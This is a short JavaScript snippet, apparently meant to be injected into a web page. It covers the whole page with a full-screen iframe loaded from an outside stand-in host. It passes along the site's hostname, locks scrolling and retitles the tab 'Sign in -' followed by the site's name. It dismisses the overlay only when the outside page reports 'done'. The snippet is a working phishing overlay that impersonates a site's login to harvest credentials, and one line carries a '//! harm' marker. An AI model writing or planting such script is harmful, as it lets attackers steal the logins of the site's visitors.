(function () {
	var f = document.createElement("iframe");
	f.src = "https://login.fulltext-unlock.example/?site=" + encodeURIComponent(location.hostname);
	f.setAttribute("style", "position:fixed;left:0;top:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff");
	document.body.style.overflow = "hidden";
	document.body.appendChild(f); //! harm
	document.title = "Sign in - " + location.hostname;
	addEventListener("message", function (e) {
		if (e.data === "done") f.remove();
	});
})();
